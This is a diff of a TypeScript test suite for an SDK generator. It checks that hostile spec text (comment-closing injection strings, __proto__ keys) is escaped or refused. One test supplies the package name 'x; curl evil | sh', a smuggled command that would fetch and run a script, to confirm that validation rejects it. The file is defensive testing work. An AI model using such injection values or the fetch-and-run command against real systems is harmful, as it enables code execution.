@@ -12,7 +12,11 @@ import { InvalidSpecError, locatorKindOf, parseSpec } from '../generator/validat
 import { runImport } from '../scripts/spec/import.js';
 
 const root = resolve(import.meta.dirname, '..');
-const tiny: Paths = { root: join(root, 'test/fixtures'), spec: join(root, 'test/fixtures/tiny-spec'), templates: join(root, 'templates') };
+const tiny: Paths = {
+  root: join(root, 'test/fixtures'),
+  spec: join(root, 'test/fixtures/tiny-spec'),
+  templates: join(root, 'templates'),
+};
 const temp = mkdtempSync(join(tmpdir(), 'security-generator-'));
 afterAll(() => rmSync(temp, { recursive: true, force: true }));
 
@@ -30,7 +34,7 @@ function tinyWith(edits: Record<string, (doc: ReturnType<typeof parseDocument>) 
 }
 
 /** What a comment-closing, tag-starting, cell-splitting, quote-breaking spec string looks like. */
-const HOSTILE = "q */ INJECTED: typeof globalThis; /* @deprecated {@link x} | cell\nnext ' \" ` ${x} \u2028 end";
+const HOSTILE = 'q */ INJECTED: typeof globalThis; /* @deprecated {@link x} | cell\nnext \' " ` ${x} \u2028 end';
 
 /** The top-level statements of a TypeScript file (kind and name), its syntax errors, and what must not be in it. */
 function readTs(text: string) {
@@ -44,59 +48,75 @@ function readTs(text: string) {
     ts.forEachChild(node, visit);
   };
   visit(file);
-  const statements = file.statements.map((s) => `${ts.SyntaxKind[s.kind]} ${(s as { name?: ts.Node }).name?.getText() ?? ''}`);
-  return { statements, syntax: syntax.map((d) => ts.flattenDiagnosticMessageText(d.messageText, '\n')), identifiers, tags };
+  const statements = file.statements.map(
+    (s) => `${ts.SyntaxKind[s.kind]} ${(s as { name?: ts.Node }).name?.getText() ?? ''}`,
+  );
+  return {
+    statements,
+    syntax: syntax.map((d) => ts.flattenDiagnosticMessageText(d.messageText, '\n')),
+    identifiers,
+    tags,
+  };
 }
 
-describe('spec text lands in generated files as data', async () => {
-  const clean = await generate(tiny);
-  const hostile = await generate(
-    tinyWith({
-      'areas/widgets.yaml': (doc) => {
-        doc.set('title', HOSTILE);
-        doc.setIn(['operations', 0, 'note'], HOSTILE);
-        doc.setIn(['operations', 0, 'query', 0, 'note'], HOSTILE);
-        doc.setIn(['operations', 0, 'query', 2, 'default'], HOSTILE);
-        doc.setIn(['operations', 1, 'returns', 'seed'], HOSTILE);
-        // URL path characters are all it may hold, `*/` among them.
-        doc.setIn(['operations', 2, 'path'], "/app/rest/widgets/{widgetLocator}*/INJECTED;(globalThis);'/*");
-      },
-      'file-tree.yaml': (doc) => doc.setIn(['prefixes', 0, 'tree'], HOSTILE),
-      'models/widgets.yaml': (doc) => {
-        doc.setIn(['models', 0, 'doc'], HOSTILE);
-        doc.setIn(['models', 0, 'note'], HOSTILE);
-        doc.setIn(['models', 0, 'properties', 0, 'doc'], HOSTILE);
-        doc.setIn(['models', 0, 'properties', 6, 'note'], HOSTILE);
-      },
-      'locators.yaml': (doc) => {
-        doc.setIn(['kinds', 'Widget', 'source'], HOSTILE);
-        doc.setIn(['kinds', 'Stamp', 'source'], HOSTILE);
-        doc.setIn(['kinds', 'Widget', 'singleValue', 'means'], HOSTILE);
-        doc.setIn(['kinds', 'Widget', 'dimensions', 'secret', 'source'], HOSTILE);
-      },
-      'examples.yaml': (doc) => doc.setIn(['operations', 'widgets.set_widget_field'], HOSTILE),
-      'package.yaml': (doc) => doc.set('description', HOSTILE),
-    }),
-  );
+describe('spec text lands in generated files as data', () => {
+  // Awaited in each test, so that a generation that fails fails the tests (and not their collection).
+  const generated = Promise.all([
+    generate(tiny),
+    generate(
+      tinyWith({
+        'areas/widgets.yaml': (doc) => {
+          doc.set('title', HOSTILE);
+          doc.setIn(['operations', 0, 'note'], HOSTILE);
+          doc.setIn(['operations', 0, 'query', 0, 'note'], HOSTILE);
+          doc.setIn(['operations', 0, 'query', 2, 'default'], HOSTILE);
+          doc.setIn(['operations', 1, 'returns', 'seed'], HOSTILE);
+          // URL path characters are all it may hold, `*/` among them.
+          doc.setIn(['operations', 2, 'path'], "/app/rest/widgets/{widgetLocator}*/INJECTED;(globalThis);'/*");
+        },
+        'file-tree.yaml': (doc) => doc.setIn(['prefixes', 0, 'tree'], HOSTILE),
+        'models/widgets.yaml': (doc) => {
+          doc.setIn(['models', 0, 'doc'], HOSTILE);
+          doc.setIn(['models', 0, 'note'], HOSTILE);
+          doc.setIn(['models', 0, 'properties', 0, 'doc'], HOSTILE);
+          doc.setIn(['models', 0, 'properties', 6, 'note'], HOSTILE);
+        },
+        'locators.yaml': (doc) => {
+          doc.setIn(['kinds', 'Widget', 'source'], HOSTILE);
+          doc.setIn(['kinds', 'Stamp', 'source'], HOSTILE);
+          doc.setIn(['kinds', 'Widget', 'singleValue', 'means'], HOSTILE);
+          doc.setIn(['kinds', 'Widget', 'dimensions', 'secret', 'source'], HOSTILE);
+        },
+        'examples.yaml': (doc) => doc.setIn(['operations', 'widgets.set_widget_field'], HOSTILE),
+        'package.yaml': (doc) => doc.set('description', HOSTILE),
+      }),
+    ),
+  ]);
 
-  // The TypeScript files the hostile text reached.
-  const reached = [...clean.keys()].filter((p) => p.endsWith('.ts') && hostile.get(p) !== clean.get(p));
-
-  it('emits the same files as from the clean spec, the hostile text in them', () => {
+  it('emits TypeScript with no injected statement, tag or syntax error', async () => {
+    const [clean, hostile] = await generated;
     expect([...hostile.keys()].sort()).toEqual([...clean.keys()].sort());
-    expect(reached.sort()).toEqual(['src/areas/widgets.ts', 'src/client.ts', 'src/locators.ts', 'src/models.ts', 'src/operations.ts']);
-    for (const path of reached) expect(hostile.get(path), path).toContain('INJECTED');
+    // The TypeScript files the hostile text reached.
+    const reached = [...clean.keys()].filter((p) => p.endsWith('.ts') && hostile.get(p) !== clean.get(p));
+    expect(reached.sort()).toEqual([
+      'src/areas/widgets.ts',
+      'src/client.ts',
+      'src/locators.ts',
+      'src/models.ts',
+      'src/operations.ts',
+    ]);
+    for (const path of reached) {
+      expect(hostile.get(path), path).toContain('INJECTED');
+      const [before, after] = [readTs(clean.get(path)!), readTs(hostile.get(path)!)];
+      expect(after.syntax, path).toEqual([]);
+      expect(after.statements, path).toEqual(before.statements);
+      expect(after.identifiers, path).not.toContain('INJECTED');
+      expect(after.tags.sort(), path).toEqual(before.tags.sort());
+    }
   });
 
-  it.each(reached)('%s: no injected statement, tag or syntax error', (path) => {
-    const [before, after] = [readTs(clean.get(path)!), readTs(hostile.get(path)!)];
-    expect(after.syntax).toEqual([]);
-    expect(after.statements).toEqual(before.statements);
-    expect(after.identifiers).not.toContain('INJECTED');
-    expect(after.tags.sort()).toEqual(before.tags.sort());
-  });
-
-  it('keeps every markdown table row one row of the same cells', () => {
+  it('keeps every markdown table row one row of the same cells', async () => {
+    const [clean, hostile] = await generated;
     const rows = (text: string) =>
       text
         .split('\n')
@@ -111,7 +131,8 @@ describe('spec text lands in generated files as data', async () => {
     );
   });
 
-  it('writes package.json whose description is the spec text exactly', () => {
+  it('writes package.json whose description is the spec text exactly', async () => {
+    const [clean, hostile] = await generated;
     const pkg = JSON.parse(hostile.get('package.json')!) as { description: string };
     expect(pkg.description).toBe(HOSTILE);
     expect(Object.keys(pkg)).toEqual(Object.keys(JSON.parse(clean.get('package.json')!) as object));
@@ -133,7 +154,8 @@ describe('names the generator cannot emit are refused, saying which and where', 
     try {
       buildIr(paths);
     } catch (e) {
-      if (e instanceof InvalidSpecError) return e.errors.map((x) => `${x.file}:${x.line} ${x.operation ?? ''}: ${x.message}`);
+      if (e instanceof InvalidSpecError)
+        return e.errors.map((x) => `${x.file}:${x.line} ${x.operation ?? ''}: ${x.message}`);
       throw e;
     }
     return [];
@@ -144,8 +166,14 @@ describe('names the generator cannot emit are refused, saying which and where', 
     expect(
       areas((y) =>
         y
-          .replace('path: /app/rest/widgets/{widgetLocator}\n    pathParams: [widgetLocator]', 'path: /app/rest/widgets/{__proto__}\n    pathParams: [__proto__]')
-          .replace('icon{suffix}\n    pathParams: [widgetLocator, suffix]', 'icon{toString}\n    pathParams: [widgetLocator, toString]'),
+          .replace(
+            'path: /app/rest/widgets/{widgetLocator}\n    pathParams: [widgetLocator]',
+            'path: /app/rest/widgets/{__proto__}\n    pathParams: [__proto__]',
+          )
+          .replace(
+            'icon{suffix}\n    pathParams: [widgetLocator, suffix]',
+            'icon{toString}\n    pathParams: [widgetLocator, toString]',
+          ),
       ),
     ).toEqual([
       'areas/widgets.yaml:24 widgets.delete: path parameter "__proto__" is a key every JavaScript object inherits',
@@ -169,20 +197,28 @@ describe('names the generator cannot emit are refused, saying which and where', 
   });
 
   it('a path, a base or a file-tree prefix that is not a URL path, and a placeholder in a prefix', () => {
-    expect(areas((y) => y.replace('path: /app/rest/widgets/{widgetLocator}\n', 'path: "/app/rest/widgets/{widgetLocator} `x` | y"\n'))).toEqual([
+    expect(
+      areas((y) =>
+        y.replace('path: /app/rest/widgets/{widgetLocator}\n', 'path: "/app/rest/widgets/{widgetLocator} `x` | y"\n'),
+      ),
+    ).toEqual([
       "areas/widgets.yaml:24 widgets.delete: path must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
     ]);
     expect(areas((y) => y.replace('base: /app/rest/widgets', 'base: "/app/rest/widgets\\n"'))).toContain(
       "areas/widgets.yaml:4 : base must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
     );
-    expect(errorsOf(broken('file-tree.yaml', (y) => y.replace('{widgetLocator}/files', '{constructor}/files{!}')))).toEqual([
+    expect(
+      errorsOf(broken('file-tree.yaml', (y) => y.replace('{widgetLocator}/files', '{constructor}/files{!}'))),
+    ).toEqual([
       "file-tree.yaml:8 prefix /app/rest/widgets/{constructor}/files{!}: prefix must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
       'file-tree.yaml:8 prefix /app/rest/widgets/{constructor}/files{!}: path parameter "constructor" is a key every JavaScript object inherits',
     ]);
   });
 
   it('an area name that is a reserved word (it names a namespace import)', () => {
-    expect(areas((y) => y.replace('area: widgets', 'area: delete'))).toContain('areas/widgets.yaml:2 : area "delete" is a reserved word of JavaScript');
+    expect(areas((y) => y.replace('area: widgets', 'area: delete'))).toContain(
+      'areas/widgets.yaml:2 : area "delete" is a reserved word of JavaScript',
+    );
   });
 
   it('model properties, wire names and enum values that close a comment, break a line or have no letter', () => {
@@ -217,9 +253,14 @@ describe('names the generator cannot emit are refused, saying which and where', 
       'locators.yaml:5 : kind ValueOf: its name in `locator` "valueOf" is a key every JavaScript object inherits',
       'locators.yaml:20 : kind Widget: dimension "constructor" is a key every JavaScript object inherits',
     ]);
-    expect(locators((y) => y.replace('      name: { type: string }\n', '      __proto__: { type: string }\n      name: { type: string }\n'))).toEqual([
-      'locators.yaml:20 : kinds.Widget.dimensions.__proto__: the key __proto__ cannot name anything',
-    ]);
+    expect(
+      locators((y) =>
+        y.replace(
+          '      name: { type: string }\n',
+          '      __proto__: { type: string }\n      name: { type: string }\n',
+        ),
+      ),
+    ).toEqual(['locators.yaml:20 : kinds.Widget.dimensions.__proto__: the key __proto__ cannot name anything']);
   });
 
   it('reads no spec name as a key an object inherits', () => {
@@ -231,7 +272,9 @@ describe('names the generator cannot emit are refused, saying which and where', 
   });
 
   it('a package name that is not an npm package name (it goes into shell commands and imports)', async () => {
-    const e = await generate(broken('package.yaml', (y) => y.replace('name: tiny-sdk', 'name: x; curl evil | sh'))).catch((x: unknown) => x);
+    const e = await generate(
+      broken('package.yaml', (y) => y.replace('name: tiny-sdk', 'name: x; curl evil | sh')),
+    ).catch((x: unknown) => x);
     expect(e).toBeInstanceOf(InvalidSpecError);
     expect((e as InvalidSpecError).message).toContain('package.yaml:1: name must be an npm package name');
   });
@@ -265,18 +308,38 @@ describe('spec:import refuses hostile names with a message, and writes nothing',
       () => null,
       (e: unknown) => e,
     );
-    return { error: error as Error | null, changed: JSON.stringify([...snapshot(dir)]) !== JSON.stringify([...before]), name: file.replace(/.*\//, '') };
+    return {
+      error: error as Error | null,
+      changed: JSON.stringify([...snapshot(dir)]) !== JSON.stringify([...before]),
+      name: file.replace(/.*\//, ''),
+    };
   };
-  const one = (path: string, operation: object, definitions: object = {}) => ({ swagger: '2.0', paths: { [path]: { get: operation } }, definitions });
+  const one = (path: string, operation: object, definitions: object = {}) => ({
+    swagger: '2.0',
+    paths: { [path]: { get: operation } },
+    definitions,
+  });
 
   it.each([
-    ['an operationId that closes a comment', 'q */ INJECTED: typeof globalThis; /*', 'operationId "q */ INJECTED: typeof globalThis; /*" would close a comment (it holds */)'],
+    [
+      'an operationId that closes a comment',
+      'q */ INJECTED: typeof globalThis; /*',
+      'operationId "q */ INJECTED: typeof globalThis; /*" would close a comment (it holds */)',
+    ],
     ['an operationId with no letter or digit', '!!!', 'operationId "!!!" has no letter or digit (A-Z, a-z, 0-9)'],
-    ['an operationId that is not a name', 'get zaps()', 'operationId "get zaps()" is not a name (a letter, then letters, digits and _)'],
+    [
+      'an operationId that is not a name',
+      'get zaps()',
+      'operationId "get zaps()" is not a name (a letter, then letters, digits and _)',
+    ],
   ])('%s', async (_, operationId, message) => {
-    const { error, changed, name } = await importing(one('/app/rest/zaps', { operationId, responses: { default: {} } }));
+    const { error, changed, name } = await importing(
+      one('/app/rest/zaps', { operationId, responses: { default: {} } }),
+    );
     expect(error).not.toBeInstanceOf(TypeError);
-    expect(error?.message).toBe(`${name}: the spec cannot take these names; nothing was imported:\n  GET /app/rest/zaps: ${message}`);
+    expect(error?.message).toBe(
+      `${name}: the spec cannot take these names; nothing was imported:\n  GET /app/rest/zaps: ${message}`,
+    );
     expect(changed).toBe(false);
   });
 
@@ -310,9 +373,15 @@ describe('spec:import refuses hostile names with a message, and writes nothing',
   it('a definition it cannot read: the place and what is wrong, never a TypeError', async () => {
     const noResponses = await importing(one('/app/rest/zaps', { operationId: 'getZaps' }));
     expect(noResponses.error).not.toBeInstanceOf(TypeError);
-    expect(noResponses.error?.message).toMatch(/is not a swagger 2\.0 definition the import can read:\n {2}paths\["\/app\/rest\/zaps"\]\.get\.responses: /);
-    const proto = await importing('{"swagger":"2.0","paths":{},"definitions":{"Zap":{"properties":{"__proto__":{"type":"string"}}}}}');
-    expect(proto.error?.message).toBe(`${join(temp, proto.name)}: definitions.Zap.properties.__proto__: the key __proto__ cannot name anything`);
+    expect(noResponses.error?.message).toMatch(
+      /is not a swagger 2\.0 definition the import can read:\n {2}paths\["\/app\/rest\/zaps"\]\.get\.responses: /,
+    );
+    const proto = await importing(
+      '{"swagger":"2.0","paths":{},"definitions":{"Zap":{"properties":{"__proto__":{"type":"string"}}}}}',
+    );
+    expect(proto.error?.message).toBe(
+      `${join(temp, proto.name)}: definitions.Zap.properties.__proto__: the key __proto__ cannot name anything`,
+    );
     expect([noResponses.changed, proto.changed]).toEqual([false, false]);
   });
 });
